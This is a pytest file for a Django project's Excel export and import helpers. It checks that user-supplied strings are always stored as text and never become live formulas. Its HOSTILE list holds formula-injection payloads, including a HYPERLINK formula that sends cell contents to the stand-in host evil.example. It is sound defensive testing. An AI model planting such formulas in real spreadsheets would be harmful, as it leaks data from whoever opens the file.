"""The one Excel writer writes every string as text and the reader reads formulas as text: a value
typed by anyone (a resident's name, an API title) can never become a live formula in a workbook."""

from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook

from common.excel import Book, Column, read_sheet, write_sheet

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
           "=1+1"]


def cells(data):
    ws = load_workbook(BytesIO(data)).worksheets[0]
    return [(c.value, c.data_type) for row in ws.iter_rows() for c in row]


def test_every_string_is_written_as_text_never_a_formula():
    data = Book().sheet("x", ["value"], [[v] for v in HOSTILE]).bytes()
    written = cells(data)[1:]
    # XML reads a lone carriage return back as a line feed; the text is otherwise what was typed.
    assert [v for v, _t in written] == [v.replace("\r", "\n") for v in HOSTILE]
    assert {t for _v, t in written} == {"s"}  # "f" would be a formula


def test_columns_and_numbers_keep_their_types():
    data = write_sheet("x", [Column("name", "name"), Column("n", "n")], [{"name": "=A1", "n": 3}])
    assert cells(data) == [("name", "s"), ("n", "s"), ("=A1", "s"), (3, "n")]


def test_a_money_column_is_formatted_and_stays_a_number():
    ws = load_workbook(BytesIO(Book().sheet("x", ["a", "yuan"], [["x", 12.5]], money_from=1).bytes())).worksheets[0]
    assert ws["B2"].value == 12.5 and ws["B2"].number_format == "#,##0.00"


def test_an_imported_formula_is_read_as_its_text_not_its_result():
    wb = Workbook()
    wb.active.append(["name"])
    wb.active.append(["=1+1"])
    buf = BytesIO()
    wb.save(buf)
    buf.seek(0)
    sheet = read_sheet(buf, [Column("name", "name")])
    assert [r["name"] for r in sheet.rows] == ["=1+1"]


@pytest.mark.django_db
def test_a_residents_hostile_name_leaves_the_ledger_export_as_text(client, ledger, staff):
    from issues.models import Issue

    Issue.objects.filter(pk=ledger.reported.pk).update(reporter_name=HOSTILE[0])
    client.force_login(staff)
    r = client.get("/admin/issues/issue/export/")
    assert r.status_code == 200
    values = cells(r.content)
    assert (HOSTILE[0], "s") in values
    assert all(t != "f" for _v, t in values)
